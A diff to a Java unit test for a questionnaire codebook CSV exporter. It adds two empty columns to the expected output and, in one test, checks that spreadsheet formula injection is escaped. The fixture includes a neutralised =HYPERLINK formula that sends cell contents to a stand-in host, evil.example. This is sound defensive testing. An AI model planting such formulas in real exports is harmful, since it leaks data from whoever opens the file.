@@ -37,12 +37,12 @@ class CodebookCsvTest {
         CodebookCsv.write(List.of(v2, v1), file);
 
         assertThat(ExportFiles.text(file)).isEqualTo("""
-                item_id,subscale,text,reverse,min,max,value_labels,instrument_version
-                calm_2,calm,"I stay calm, mostly",0,1,3,"1=no|2=somewhat|3=yes, fully",1
-                calm_1r,calm,"I get ""heated""\",1,1,3,"1=no|2=somewhat|3=yes, fully",1
-                calm_2,calm,"I stay calm, mostly",0,1,3,"1=no|2=somewhat|3=yes, fully",2
-                calm_3,calm,I listen,0,1,3,"1=no|2=somewhat|3=yes, fully",2
-                calm_1r,calm,"I get ""heated""\",1,1,3,"1=no|2=somewhat|3=yes, fully",2
+                item_id,subscale,text,reverse,min,max,value_labels,instrument_version,scale_wording,instructions
+                calm_2,calm,"I stay calm, mostly",0,1,3,"1=no|2=somewhat|3=yes, fully",1,,
+                calm_1r,calm,"I get ""heated""\",1,1,3,"1=no|2=somewhat|3=yes, fully",1,,
+                calm_2,calm,"I stay calm, mostly",0,1,3,"1=no|2=somewhat|3=yes, fully",2,,
+                calm_3,calm,I listen,0,1,3,"1=no|2=somewhat|3=yes, fully",2,,
+                calm_1r,calm,"I get ""heated""\",1,1,3,"1=no|2=somewhat|3=yes, fully",2,,
                 """);
     }
 
@@ -56,12 +56,12 @@ class CodebookCsvTest {
         String labels = "'-3=@strongly disagree|-2=disagree|-1=somewhat disagree|0=neutral|1=somewhat agree|2=agree"
                 + "|3=strongly agree";
         assertThat(java.nio.file.Files.readString(file)).isEqualTo("""
-                item_id,subscale,text,reverse,min,max,value_labels,instrument_version
-                '=1+1,'@calm,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",0,-3,3,%1$s,1
-                calm_2,'@calm,'+1 when calm,0,-3,3,%1$s,1
-                trust_1,trust,'-I can rely on my partner.,0,-3,3,%1$s,1
-                trust_2,trust,'\tI keep checking up on my partner.,0,-3,3,%1$s,1
-                trust_3,trust,"'\rI feel safe.",0,-3,3,%1$s,1
+                item_id,subscale,text,reverse,min,max,value_labels,instrument_version,scale_wording,instructions
+                '=1+1,'@calm,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click"")",0,-3,3,%1$s,1,,
+                calm_2,'@calm,'+1 when calm,0,-3,3,%1$s,1,,
+                trust_1,trust,'-I can rely on my partner.,0,-3,3,%1$s,1,,
+                trust_2,trust,'\tI keep checking up on my partner.,0,-3,3,%1$s,1,,
+                trust_3,trust,"'\rI feel safe.",0,-3,3,%1$s,1,,
                 """.formatted(labels));
     }
 }
